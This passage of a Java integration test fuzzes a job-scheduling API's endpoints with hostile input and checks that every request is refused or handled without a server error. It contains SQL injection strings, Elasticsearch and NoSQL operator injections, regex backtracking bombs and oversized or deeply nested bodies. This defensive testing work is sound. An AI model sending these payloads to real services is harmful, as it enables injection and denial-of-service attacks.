package org.jobstream.infra.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.jobstream.infra.e2e.Stack.call;
import static org.jobstream.infra.e2e.Stack.token;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jobstream.api.ApiHeaders;
import org.jobstream.api.JobParameterTerms;
import org.jobstream.api.Limits;
import org.jobstream.store.EventTableRows;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;

/**
 * Hostile input at the entry point (issue 9): generated bodies, from a fixed seed and bounded
 * (about 300 requests), against submission, search, summary and the status, heartbeat and
 * metadata patches. Huge and deeply nested input, unicode of every kind, NUL bytes, unbalanced
 * quotes and brackets, SQL, shell and Elasticsearch query injection, wrong JSON types everywhere,
 * regular expressions that blow up automata or backtracking engines.
 *
 * <p>Every case answers with a status below 500. A case that must be refused answers 4xx with a
 * JSON {@code detail}. A search that is valid but hostile (injection attempts in values, {@code *}
 * and {@code \} in {@code like} patterns) answers exactly what its literal meaning selects among
 * the caller's own jobs, never more. At the end, the caller's jobs are exactly as before and the
 * event store holds no event of theirs besides the two submissions of the baseline.
 *
 * <p>Queries carry the position of the baseline's submission ({@code X-Jobstream-Position}): they
 * wait for the read models to include this test's own jobs, not for whatever else the stack is
 * busy with, so that a slow read side elsewhere does not make a refusal look like a {@code 503}.
 *
 * <p>Every JDL here is invalid by construction, and the patches name job IDs that do not exist or
 * this test's own jobs with values that must be refused, so that a regression creates nothing on
 * a shared stack but a failure. Input that would be stored and then break the read models is in
 * {@link #inputTheReadModelsCannotStoreIsRefused()}, which runs only when asked for.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputIT {

    /** Another seed explores other cases: {@code -Djobstream.hostile.seed=N}. */
    private static final long SEED = Long.getLong("jobstream.hostile.seed", 20_251_125L);
    private static final String USER = "hostile-" + UUID.randomUUID().toString().substring(0, 8);
    private static final String TOKEN = token(USER, "NormalUser");
    private static final String PILOT = token("hostile-pilot", "lhcb", "lhcb_pilot", Duration.ofHours(1), "GenericPilot");
    private static final ObjectMapper JSON = Stack.JSON;

    private static final String BASELINE_NAME = "hostile-baseline";
    private static final String VALID_JDL = "Executable = \"echo\"; JobName = \"" + BASELINE_NAME + "\";";
    private static final int MAX_JDL_LENGTH = Limits.MAX_JDL_LENGTH;
    /** nginx's client_max_body_size in infra/stack/nginx.conf.template. */
    private static final int ENTRY_POINT_BODY_LIMIT = 20 * 1024 * 1024;
    private static final Duration SLOW = Duration.ofSeconds(10);
    /** Job IDs that no job has: not positive, beyond any sequence, or not numbers at all. */
    private static final List<String> NO_SUCH_JOB_IDS = List.of("0", "-1", "-9223372036854775808",
            "9223372036854775807", "9223372036854775808", "9".repeat(40), "abc", "", " ", "1e3", "0x10",
            "1; DROP TABLE jobs; --", "\u0000", "\u0669\u0662\u0662\u0663\u0663\u0667\u0662\u0660\u0663\u0666\u0668"
                    + "\u0665\u0664\u0667\u0667\u0665\u0668\u0660\u0667");

    private static List<Long> baselineIds;
    private static JsonNode baseline;
    /** The headers of every request: the event store position of the baseline's submission. */
    private static Map<String, String> afterBaseline;

    /** What a hostile request must get. */
    enum Expect {
        /** 4xx with a JSON {@code detail}. */
        REFUSED,
        /** Below 500, with a JSON {@code detail} (endpoints whose exact codes are still settling). */
        DETAIL,
        /** Below 500; a 4xx has a JSON {@code detail}; a search answers only the caller's own jobs. */
        NO_SERVER_ERROR,
        /** 200 and no job. */
        NOTHING
    }

    record Case(String name, String method, String path, String token, byte[] body, Expect expect) {
    }

    /** Two plain jobs of a user of its own: what every search may show, and what must not change. */
    @BeforeAll
    static void submitTheBaseline() {
        Stack.Answer submitted = call("POST", "/api/jobs/jdl", TOKEN, List.of(VALID_JDL, VALID_JDL));
        assertThat(submitted.status()).as(submitted.text()).isEqualTo(201);
        baselineIds = new ArrayList<>();
        submitted.json().forEach(job -> baselineIds.add(job.get("JobID").asLong()));
        afterBaseline = Map.of(ApiHeaders.POSITION, submitted.header(ApiHeaders.POSITION).orElseThrow());
        baseline = ownJobs(afterBaseline);
        assertThat(baseline).hasSize(2);
    }

    // ---------------------------------------------------------------------------------------------
    // POST /api/jobs/jdl

    @TestFactory
    @Order(1)
    Stream<DynamicTest> hostileSubmissionsAreRefused() {
        Hostile h = new Hostile(SEED);
        List<Case> cases = new ArrayList<>();

        // huge
        cases.add(jdl("huge: a JDL over the length limit",
                "Executable = \"" + "x".repeat(MAX_JDL_LENGTH + h.between(1, 65_536)) + "\";"));
        cases.add(jdl("huge: a body over the entry point's 20 MiB limit",
                "Executable = \"" + "x".repeat(ENTRY_POINT_BODY_LIMIT + h.between(1, 1024)) + "\";"));
        cases.add(jdl("huge: an attribute name of 200 000 characters", "A".repeat(200_000)));
        cases.add(jdl("huge: a list of 200 000 items never closed", "A = {" + "1,".repeat(200_000)));
        cases.add(jdl("huge: 21 valid JDLs, one more than a request may hold", repeat(VALID_JDL, 21)));
        cases.add(jdl("huge: 10 000 JDLs", repeat(h.unicode(5), 10_000)));

        // deep
        for (int i = 0; i < 2; i++) {
            int depth = h.between(11, 100_000);
            cases.add(jdl("deep: " + depth + " opening brackets", "[".repeat(depth)));
        }
        for (int i = 0; i < 2; i++) {
            int depth = h.between(11, 20_000);
            cases.add(jdl("deep: a list nested " + depth + " levels", "A = " + "{".repeat(depth) + "}".repeat(depth)));
        }
        for (int i = 0; i < 2; i++) {
            int depth = h.between(11, 20_000);
            cases.add(jdl("deep: a ClassAd nested " + depth + " levels",
                    "A = " + "[B = ".repeat(depth) + "1" + "]".repeat(depth)));
        }
        for (int i = 0; i < 2; i++) {
            String brackets = h.brackets(h.between(1, 5_000));
            cases.add(jdl("deep: " + brackets.length() + " random brackets", brackets));
        }
        cases.add(new Case("deep: the JSON list nested 5000 levels", "POST", "/api/jobs/jdl", TOKEN,
                raw("[".repeat(5_000) + "]".repeat(5_000)), Expect.REFUSED));

        // unicode where the grammar has no place for it
        for (int i = 0; i < 4; i++) {
            String inside = h.unicode(h.between(1, 8));
            cases.add(jdl("unicode: " + Hostile.show(inside) + " inside an attribute name", insideName(h, inside)));
        }
        for (int i = 0; i < 3; i++) {
            String text = h.unicode(h.between(1, 200));
            cases.add(jdl("unicode: a JDL of " + text.length() + " non-ASCII characters", text));
        }
        for (int i = 0; i < 3; i++) {
            String name = h.unicode(h.between(1, 20));
            cases.add(jdl("unicode: the attribute name " + Hostile.show(name), name + " = \"echo\";"));
        }
        cases.add(jdl("unicode: a byte order mark before the JDL", "\uFEFF" + VALID_JDL));
        cases.add(jdl("unicode: a full-width equals sign", "Executable \uFF1D \"echo\";"));
        cases.add(jdl("unicode: a right-to-left override before '='", "Executable\u202E= \"echo\";"));
        cases.add(jdl("unicode: a Cyrillic capital Ie that looks like E", "\u0415xecutable = \"echo\";"));
        cases.add(jdl("unicode: a zero-width space inside a name", "Execu\u200Btable = \"echo\";"));
        cases.add(jdl("unicode: lone surrogates as names", "\uD800 = 1; \uDFFF = 2;"));

        // NUL bytes where the grammar has no place for them
        for (int i = 0; i < 3; i++) {
            cases.add(jdl("nul: NUL inside an attribute name (" + i + ")", insideName(h, "\u0000".repeat(i + 1))));
        }
        cases.add(jdl("nul: a JDL of NUL bytes", "\u0000".repeat(h.between(1, 10_000))));
        cases.add(jdl("nul: NUL after the last attribute", VALID_JDL + "\u0000"));
        cases.add(jdl("nul: NUL after the opening bracket", "[\u0000" + VALID_JDL + "]"));

        // unbalanced quotes
        for (int i = 0; i < 3; i++) {
            String text = h.withoutQuotes(h.between(0, 2_000));
            cases.add(jdl("quotes: a string never closed, " + text.length() + " characters", "Executable = \"" + text));
        }
        cases.add(jdl("quotes: an escaped quote where the string should close", "Executable = \"echo\\\";"));
        cases.add(jdl("quotes: a string never closed inside a list", "A = {\"a\", \"b};"));
        cases.add(jdl("quotes: a quote too many", "Executable = \"echo\"\";"));
        cases.add(jdl("quotes: doubled quotes", "Executable = \"\"echo\"\";"));
        cases.add(jdl("quotes: single quotes around the name", "'Executable' = 'echo';"));

        // injection attempts: alone, after a valid attribute, as a name
        List<String> payloads = h.some(Hostile.INJECTIONS, 6);
        for (String payload : payloads) {
            cases.add(jdl("injection: " + Hostile.show(payload), payload));
        }
        for (String payload : h.some(Hostile.INJECTIONS, 6)) {
            cases.add(jdl("injection: after a valid attribute: " + Hostile.show(payload), VALID_JDL + " " + payload));
        }
        cases.add(jdl("injection: in an attribute name", "Owner'; DROP TABLE jobs; -- = \"x\";"));
        cases.add(jdl("injection: another VO than the caller's", "VirtualOrganization = \"gridpp\"; " + VALID_JDL));

        // not a list of JDL strings
        cases.add(body("json: an object", "{}"));
        cases.add(body("json: a string", "\"Executable = \\\"echo\\\";\""));
        cases.add(body("json: a number", "1"));
        cases.add(body("json: a boolean", "true"));
        cases.add(body("json: null", "null"));
        cases.add(body("json: an empty list", "[]"));
        cases.add(body("json: a list of objects", "[{}]"));
        cases.add(body("json: a list of lists", "[[]]"));
        cases.add(body("json: a list of null", "[null]"));
        cases.add(body("json: a number beyond double", "[1e999]"));
        cases.add(body("json: not closed", "[\"Executable = 1;\""));
        cases.add(body("json: a trailing comma", "[\"a\",]"));
        cases.add(body("json: no comma", "[\"a\" \"b\"]"));
        cases.add(new Case("json: bytes that are not UTF-8", "POST", "/api/jobs/jdl", TOKEN,
                new byte[] {'[', '"', (byte) 0xff, (byte) 0xfe, (byte) 0xc3, (byte) 0x28, '"', ']'}, Expect.REFUSED));
        cases.add(new Case("json: no body", "POST", "/api/jobs/jdl", TOKEN, new byte[0], Expect.REFUSED));

        // parametric descriptions that must not expand
        cases.add(jdl("parametric: 21 jobs", "Parameters = 21; " + VALID_JDL));
        cases.add(jdl("parametric: 100 million jobs", "Parameters = 100000000; " + VALID_JDL));
        cases.add(jdl("parametric: a count beyond long", "Parameters = 99999999999999999999; " + VALID_JDL));
        cases.add(jdl("parametric: a negative count", "Parameters = -5; " + VALID_JDL));
        cases.add(jdl("parametric: an empty list", "Parameters = {}; " + VALID_JDL));
        cases.add(jdl("parametric: a start that is not a number", "Parameters = 3; ParameterStart = \"x\"; " + VALID_JDL));
        cases.add(jdl("parametric: a double sequence that overflows",
                "Parameters = 3; ParameterStart = 1e308; ParameterFactor = 1e308; " + VALID_JDL));
        cases.add(jdl("parametric: a long sequence that overflows",
                "Parameters = 3; ParameterStart = 9223372036854775807; ParameterStep = 9223372036854775807; " + VALID_JDL));
        cases.add(jdl("parametric: sequences of different lengths", "Parameters = 2; Parameters.x = 3; " + VALID_JDL));
        cases.add(jdl("parametric: two parametric JDLs in one request",
                List.of("Parameters = 2; " + VALID_JDL, "Parameters = 2; " + VALID_JDL)));

        return cases.stream().map(HostileInputIT::run);
    }

    // ---------------------------------------------------------------------------------------------
    // POST /api/jobs/search and /summary: refused

    @TestFactory
    @Order(2)
    Stream<DynamicTest> hostileSearchesAreRefused() {
        Hostile h = new Hostile(SEED + 1);
        List<Case> cases = new ArrayList<>();

        // wrong types everywhere
        for (String shape : List.of(
                "[]", "\"x\"", "1",
                "{\"parameters\": \"Status\"}", "{\"parameters\": {}}", "{\"parameters\": [{}]}",
                "{\"parameters\": [[]]}", "{\"parameters\": [null]}", "{\"parameters\": [1]}",
                "{\"search\": \"Status\"}", "{\"search\": {}}", "{\"search\": [1]}", "{\"search\": [\"Status\"]}",
                "{\"search\": [[]]}", "{\"search\": [null]}", "{\"search\": [{}]}",
                "{\"search\": [{\"parameter\": [], \"operator\": \"eq\", \"value\": \"x\"}]}",
                "{\"search\": [{\"parameter\": {}, \"operator\": \"eq\", \"value\": \"x\"}]}",
                "{\"search\": [{\"parameter\": null, \"operator\": \"eq\", \"value\": \"x\"}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": [], \"value\": \"x\"}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": {}, \"value\": \"x\"}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": null, \"value\": \"x\"}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"eq\", \"value\": {}}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"eq\", \"value\": []}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"eq\", \"value\": null}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"eq\"}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"values\": \"x\"}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"values\": {}}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"values\": 1}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"values\": [{}]}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"values\": [[\"Received\"]]}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"values\": [null]}]}",
                "{\"search\": [{\"parameter\": \"Status\", \"operator\": \"in\", \"value\": \"x\", \"values\": [\"x\"]}]}",
                "{\"sort\": \"JobID\"}", "{\"sort\": [1]}", "{\"sort\": [{\"parameter\": null, \"direction\": \"asc\"}]}",
                "{\"sort\": [{\"parameter\": \"JobID\"}]}", "{\"sort\": [{\"parameter\": \"JobID\", \"direction\": \"sideways\"}]}",
                "{\"sort\": [{\"parameter\": \"Nope\", \"direction\": \"asc\"}]}",
                "{\"distinct\": \"yes\"}", "{\"distinct\": []}", "{\"distinct\": {}}")) {
            cases.add(new Case("types: " + shape, "POST", "/api/jobs/search", TOKEN, raw(shape), Expect.REFUSED));
        }

        // values of the wrong type for their attribute
        cases.add(search("values: JobID eq \"abc\"", filter("JobID", "eq", "abc")));
        cases.add(search("values: JobID gt true", filter("JobID", "gt", true)));
        cases.add(search("values: JobID eq 1e400", raw("{\"search\": [{\"parameter\": \"JobID\", \"operator\": \"eq\", \"value\": 1e400}]}")));
        cases.add(search("values: JobID eq 10^20", raw("{\"search\": [{\"parameter\": \"JobID\", \"operator\": \"eq\", \"value\": 100000000000000000000}]}")));
        cases.add(search("values: VerifiedFlag eq \"maybe\"", filter("VerifiedFlag", "eq", "maybe")));
        cases.add(search("values: SubmissionTime eq \"yesterday\"", filter("SubmissionTime", "eq", "yesterday")));
        cases.add(search("values: SubmissionTime eq \"2025-13\"", filter("SubmissionTime", "eq", "2025-13")));
        cases.add(search("values: UserPriority in [\"high\"]", vector("UserPriority", "in", List.of("high"))));

        // text operators on fields that are not text
        cases.add(search("operators: JobID like", filter("JobID", "like", "1%")));
        cases.add(search("operators: UserPriority not like", filter("UserPriority", "not like", "1%")));
        cases.add(search("operators: VerifiedFlag regex", filter("VerifiedFlag", "regex", "t.*")));
        cases.add(search("operators: SubmissionTime like", filter("SubmissionTime", "like", "2025%")));

        // deep
        cases.add(search("deep: the search list nested 2000 levels",
                raw("{\"search\": " + "[".repeat(2_000) + "]".repeat(2_000) + "}")));
        cases.add(search("deep: a value nested 900 levels", raw("{\"search\": [{\"parameter\": \"JobName\", "
                + "\"operator\": \"eq\", \"value\": " + "{\"a\": ".repeat(900) + "1" + "}".repeat(900) + "}]}")));
        cases.add(search("deep: an in value nested 900 levels", raw("{\"search\": [{\"parameter\": \"JobName\", "
                + "\"operator\": \"in\", \"values\": [" + "[".repeat(900) + "]".repeat(900) + "]}]}")));
        cases.add(search("deep: a parameter name nested 1500 levels", raw("{\"search\": [{\"parameter\": "
                + "{\"a\": ".repeat(1_500) + "1" + "}".repeat(1_500) + ", \"operator\": \"eq\", \"value\": 1}]}")));

        // huge
        cases.add(search("huge: in with 70 000 names", vector("JobName", "in",
                IntStream.range(0, 70_000).mapToObj(i -> "name-" + i).toList())));
        cases.add(search("huge: JobID in 70 000 numbers", vector("JobID", "in",
                IntStream.range(0, 70_000).boxed().toList())));
        cases.add(search("huge: 2000 filters", filters(IntStream.range(0, 2_000)
                .mapToObj(i -> filter("JobName", "neq", "name-" + i)).toList())));
        cases.add(search("huge: 20 000 filters", filters(IntStream.range(0, 20_000)
                .mapToObj(i -> filter("JobName", "neq", "name-" + i)).toList())));
        cases.add(search("huge: SubmissionTime in 9000 years", vector("SubmissionTime", "in",
                IntStream.range(1000, 10_000).mapToObj(String::valueOf).toList())));
        cases.add(search("huge: an eq value of 40 000 characters", filter("JobName", "eq", "x".repeat(40_000))));
        cases.add(new Case("huge: 5000 unknown fields selected", "POST", "/api/jobs/search", TOKEN,
                json(Map.of("parameters", IntStream.range(0, 5_000).mapToObj(i -> "field-" + i).toList())),
                Expect.REFUSED));

        // unknown operators
        List<String> operators = new ArrayList<>(h.some(Hostile.OPERATORS, 8));
        operators.add(h.unicode(3));
        operators.add(h.unicode(12));
        for (String operator : operators) {
            cases.add(search("operator: " + Hostile.show(operator), filter("Status", operator, "Received")));
        }

        // Elasticsearch query injection and unicode in names
        for (String name : h.some(Hostile.FIELD_INJECTIONS, 10)) {
            // a name of a job parameter's syntax is one that no job has: it matches nothing
            cases.add(search("name injection: " + Hostile.show(name), filter(name, "eq", "Received"),
                    JobParameterTerms.isName(name) ? Expect.NOTHING : Expect.REFUSED));
        }
        for (int i = 0; i < 4; i++) {
            String name = h.unicode(h.between(1, 30));
            cases.add(search("unicode name: " + Hostile.show(name), filter(name, "eq", "x")));
        }
        for (int i = 0; i < 3; i++) {
            String name = h.unicode(h.between(1, 30));
            cases.add(new Case("unicode name selected: " + Hostile.show(name), "POST", "/api/jobs/search", TOKEN,
                    json(Map.of("parameters", List.of("JobID", name))), Expect.REFUSED));
        }
        for (int i = 0; i < 2; i++) {
            String name = h.unicode(h.between(1, 30));
            cases.add(new Case("unicode name sorted by: " + Hostile.show(name), "POST", "/api/jobs/search", TOKEN,
                    json(Map.of("sort", List.of(Map.of("parameter", name, "direction", "asc")))), Expect.REFUSED));
        }

        // regular expressions that neither Java nor Lucene read, or that Lucene cannot run
        for (String regex : List.of("(", "[", "*a", "a{2,1}", "\\", "\\p{L}", "[ab]*a[ab]{20}", "a{1,1000}",
                "a".repeat(1_200))) {
            cases.add(search("regex: " + Hostile.show(regex), filter("JobName", "regex", regex)));
        }

        // pages
        for (String query : List.of("page=0", "page=-1", "per_page=0", "per_page=10001", "page=abc",
                "per_page=1.5", "page=99999999999")) {
            cases.add(new Case("page: " + query, "POST", "/api/jobs/search?" + query, TOKEN, raw("{}"), Expect.REFUSED));
        }

        return cases.stream().map(HostileInputIT::run);
    }

    @TestFactory
    @Order(3)
    Stream<DynamicTest> hostileSummariesAreRefused() {
        Hostile h = new Hostile(SEED + 2);
        List<Case> cases = new ArrayList<>();
        for (String shape : List.of("[]", "\"x\"", "{}", "{\"grouping\": null}", "{\"grouping\": \"Status\"}",
                "{\"grouping\": [null]}", "{\"grouping\": [1]}", "{\"grouping\": [{}]}", "{\"grouping\": [[]]}",
                "{\"grouping\": [\"LoggingInfo\"]}", "{\"grouping\": [\"Status\\\" OR *\"]}",
                "{\"grouping\": " + "[".repeat(2_000) + "]".repeat(2_000) + "}")) {
            cases.add(new Case("types: " + abbreviate(shape), "POST", "/api/jobs/summary", TOKEN, raw(shape), Expect.REFUSED));
        }
        cases.add(new Case("no body", "POST", "/api/jobs/summary", TOKEN, new byte[0], Expect.REFUSED));
        for (int i = 0; i < 4; i++) {
            String name = h.unicode(h.between(1, 30));
            cases.add(summary("unicode grouping: " + Hostile.show(name), List.of(name)));
        }
        cases.add(summary("huge: 2000 unknown groupings",
                IntStream.range(0, 2_000).mapToObj(i -> "field-" + i).toList()));
        List<ObjectNode> filters = List.of(
                filter("Status\" OR *", "eq", "x"),
                filter("Status", "$where", "x"),
                filter("JobID", "like", "%"),
                filter("JobName", "regex", "[ab]*a[ab]{20}"),
                filter("JobName", "regex", "\\p{L}"),
                filter("JobName", "eq", Map.of("match_all", Map.of())),
                filter(h.unicode(8), "eq", "x"),
                vector("JobName", "in", IntStream.range(0, 70_000).mapToObj(i -> "name-" + i).toList()));
        for (ObjectNode filter : filters) {
            ObjectNode body = JSON.createObjectNode();
            body.putArray("grouping").add("Status");
            body.putArray("search").add(filter);
            cases.add(new Case("filter: " + abbreviate(filter.toString()), "POST", "/api/jobs/summary", TOKEN,
                    json(body), Expect.REFUSED));
        }
        return cases.stream().map(HostileInputIT::run);
    }

    // ---------------------------------------------------------------------------------------------
    // Valid but hostile searches: they mean what they literally say, within the caller's jobs

    @TestFactory
    @Order(4)
    Stream<DynamicTest> injectionsInSearchValuesMatchOnlyTheirLiteralMeaning() {
        Map<String, ObjectNode> none = new LinkedHashMap<>();
        none.put("like \"*\" is a literal star", filter("JobName", "like", "*"));
        none.put("like \"\\\" is a literal backslash", filter("JobName", "like", "\\"));
        none.put("like \"*%\" starts with a literal star", filter("JobName", "like", "*%"));
        none.put("like \"\\%\" starts with a literal backslash", filter("JobName", "like", "\\%"));
        none.put("like \"hostile*\" has a literal star", filter("JobName", "like", "hostile*"));
        none.put("like \"hostile?baseline\" has a literal question mark", filter("JobName", "like", "hostile?baseline"));
        none.put("eq \"Received\\\" OR *\" is one literal value", filter("Status", "eq", "Received\" OR *"));
        none.put("eq \"*\" is a literal star", filter("Status", "eq", "*"));
        none.put("eq a query DSL object as text", filter("JobName", "eq", "{\"match_all\": {}}"));
        none.put("eq SQL", filter("JobName", "eq", "' OR '1'='1"));
        none.put("in injection strings", vector("JobName", "in", List.of("*", "' OR '1'='1", "%", "\"}}]}")));
        none.put("Owner eq another user: visibility still applies", filter("Owner", "eq", "alice"));
        none.put("Owner neq oneself", filter("Owner", "neq", USER));
        none.put("VO eq another VO", filter("VO", "eq", "atlas"));
        Map<String, ObjectNode> all = new LinkedHashMap<>();
        all.put("like \"%\" matches every own job", filter("JobName", "like", "%"));
        all.put("like \"hostile-baselin_\" matches by one wildcard", filter("JobName", "like", "hostile-baselin_"));
        all.put("neq an injection string is every own job", filter("Status", "neq", "Received\" OR *"));
        all.put("regex \".*\" matches every own job", filter("JobName", "regex", ".*"));

        Stream<DynamicTest> literal = Stream.concat(
                none.entrySet().stream().map(e -> literal(e.getKey(), e.getValue(), false)),
                all.entrySet().stream().map(e -> literal(e.getKey(), e.getValue(), true)));
        Stream<DynamicTest> summary = Stream.of(
                DynamicTest.dynamicTest("summary by Owner counts only the caller's jobs", () -> {
                    Stack.Answer answer = query("/api/jobs/summary", Map.of("grouping", List.of("Owner")));
                    assertThat(answer.status()).as(answer.text()).isEqualTo(200);
                    assertThat(answer.json()).hasSize(1);
                    assertThat(answer.json().get(0).get("Owner").asText()).isEqualTo(USER);
                    assertThat(answer.json().get(0).get("count").asLong()).isEqualTo(baselineIds.size());
                }),
                DynamicTest.dynamicTest("summary with like \"*\" counts nothing", () -> {
                    Stack.Answer answer = query("/api/jobs/summary", Map.of("grouping", List.of("Status"),
                            "search", List.of(filter("JobName", "like", "*"))));
                    assertThat(answer.status()).as(answer.text()).isEqualTo(200);
                    assertThat(answer.json()).isEmpty();
                }));
        Hostile h = new Hostile(SEED + 3);
        List<Case> bombs = new ArrayList<>();
        for (String regex : List.of("(a+)+$", "(a|aa)+$", "(.*a){20}", "^(a?){25}a{25}$", "(x+x+)+y")) {
            bombs.add(search("backtracking bomb: " + regex, filter("JobName", "regex", regex), Expect.NO_SERVER_ERROR));
        }
        bombs.add(new Case("20 000 sort keys", "POST", "/api/jobs/search", TOKEN,
                json(Map.of("sort", java.util.Collections.nCopies(20_000, Map.of("parameter", "JobName", "direction", "asc")))),
                Expect.NO_SERVER_ERROR));
        bombs.add(search("like with " + 60 + " wildcards", filter("JobName", "like", "%a_".repeat(60)), Expect.NO_SERVER_ERROR));
        bombs.add(search("a lone surrogate value", filter("JobName", "eq", h.unicode(4) + "\uD800"), Expect.NO_SERVER_ERROR));
        return Stream.concat(Stream.concat(literal, summary), bombs.stream().map(HostileInputIT::run));
    }

    // ---------------------------------------------------------------------------------------------
    // PATCH /api/jobs/status, /heartbeat, /metadata

    @TestFactory
    @Order(5)
    Stream<DynamicTest> patchesOfTheWrongShapeAreAnsweredWithADetail() {
        Hostile h = new Hostile(SEED + 4);
        List<Case> cases = new ArrayList<>();
        for (String path : List.of("/api/jobs/status", "/api/jobs/heartbeat", "/api/jobs/metadata")) {
            for (String shape : List.of("[]", "\"x\"", "1", "true", "null")) {
                cases.add(new Case(path + " types: " + shape, "PATCH", path, PILOT, raw(shape), Expect.DETAIL));
            }
            for (int i = 0; i < 6; i++) {
                String id = h.pick(NO_SUCH_JOB_IDS);
                JsonNode perJob = h.pick(List.<JsonNode>of(JSON.nullNode(), JSON.valueToTree(1), JSON.valueToTree("x"),
                        JSON.createArrayNode(), JSON.valueToTree(Map.of("Status", Map.of("$ne", "")))));
                ObjectNode body = JSON.createObjectNode().set(id, perJob);
                cases.add(new Case(path + " no such job " + Hostile.show(id) + ": " + perJob, "PATCH", path,
                        h.pick(List.of(PILOT, TOKEN)), json(body), Expect.DETAIL));
            }
            ObjectNode many = JSON.createObjectNode();
            IntStream.range(0, 2_000).forEach(i -> many.putObject(Long.toString(-1L - i)));
            cases.add(new Case(path + " 2000 job IDs that do not exist", "PATCH", path, PILOT, json(many), Expect.DETAIL));
            cases.add(new Case(path + " nested 2000 levels", "PATCH", path, PILOT,
                    raw("{\"0\": " + "{\"a\": ".repeat(2_000) + "1" + "}".repeat(2_000) + "}"), Expect.DETAIL));
            cases.add(new Case(path + " an empty body", "PATCH", path, PILOT, raw("{}"), Expect.NO_SERVER_ERROR));
        }
        for (int i = 0; i < 3; i++) {
            String timestamp = h.pick(List.of("", "yesterday", "2025-13-45T99:99:99Z", "2025-01-01T00:00:00",
                    "\u0000", h.unicode(10), "9".repeat(40)));
            Object update = h.pick(List.of(Map.of("Status", 1), Map.of("Status", "Sleeping"),
                    Map.of("Status", List.of("Running")), Map.of("Status", Map.of("$ne", "")), Map.of("Bogus", 1)));
            ObjectNode body = JSON.createObjectNode();
            body.putObject(h.pick(NO_SUCH_JOB_IDS)).set(timestamp, JSON.valueToTree(update));
            cases.add(new Case("/api/jobs/status an update " + update + " at " + Hostile.show(timestamp), "PATCH",
                    "/api/jobs/status?force=" + h.pick(List.of("true", "false", "maybe")), PILOT, json(body), Expect.DETAIL));
        }
        for (Map<String, Object> beat : List.of(Map.<String, Object>of("LoadAverage", "abc"),
                Map.<String, Object>of("LoadAverage", List.of(1)), Map.<String, Object>of("Bogus", 1),
                Map.<String, Object>of("StandardOutput", Map.of("a", 1)))) {
            ObjectNode body = JSON.createObjectNode().set(h.pick(NO_SUCH_JOB_IDS), JSON.valueToTree(beat));
            cases.add(new Case("/api/jobs/heartbeat values " + beat, "PATCH", "/api/jobs/heartbeat", PILOT,
                    json(body), Expect.DETAIL));
        }
        return cases.stream().map(HostileInputIT::run);
    }

    /** Well-formed patches of this test's own job whose values must be refused: nothing may change. */
    @TestFactory
    @Order(6)
    Stream<DynamicTest> patchesOfOwnJobsWithInvalidValuesAreRefused() {
        String job = Long.toString(baselineIds.get(0));
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("heartbeat: LoadAverage beyond double (1e400)", "PATCH", "/api/jobs/heartbeat", PILOT,
                raw("{\"" + job + "\": {\"LoadAverage\": 1e400}}"), Expect.REFUSED));
        cases.add(new Case("status: an unknown status", "PATCH", "/api/jobs/status", PILOT,
                json(Map.of(job, Map.of("2020-01-01T00:00:00Z", Map.of("Status", "Sleeping")))), Expect.REFUSED));
        cases.add(new Case("status: a timestamp without time zone", "PATCH", "/api/jobs/status", PILOT,
                json(Map.of(job, Map.of("2020-01-01T00:00:00", Map.of("Status", "Checking")))), Expect.REFUSED));
        Map<String, Object> nulls = new LinkedHashMap<>();
        nulls.put("CPUNormalizationFactor", null);
        nulls.put("UserPriority", null);
        // DiracX ignores null values: accepted, and nothing changes
        cases.add(new Case("metadata: null values", "PATCH", "/api/jobs/metadata", TOKEN, json(Map.of(job, nulls)),
                Expect.NO_SERVER_ERROR));
        for (Map.Entry<String, Map<String, Object>> patch : Map.<String, Map<String, Object>>of(
                "metadata: JobID changed", Map.of("JobID", 5),
                "metadata: UserPriority as words", Map.of("UserPriority", "high"),
                "metadata: an unknown status", Map.of("Status", "Sleeping"),
                "metadata: HeartBeatTime that is no time", Map.of("HeartBeatTime", "yesterday"),
                "metadata: a JobName longer than DiracX's 128 characters", Map.of("JobName", "n".repeat(200))).entrySet()) {
            cases.add(new Case(patch.getKey(), "PATCH", "/api/jobs/metadata", TOKEN,
                    json(Map.of(job, patch.getValue())), Expect.REFUSED));
        }
        return cases.stream().map(HostileInputIT::run);
    }

    // ---------------------------------------------------------------------------------------------
    // Nothing changed

    @Test
    @Order(100)
    void theHostileRequestsChangedNothing() throws Exception {
        // without a position: the read models must include everything stored until now
        await().atMost(Duration.ofMinutes(1)).until(() -> call("POST", "/api/jobs/search", TOKEN, Map.of()).status() == 200);
        assertThat(ownJobs(Map.of())).as("the caller's jobs through search").isEqualTo(baseline);
        try (Connection db = Stack.database()) {
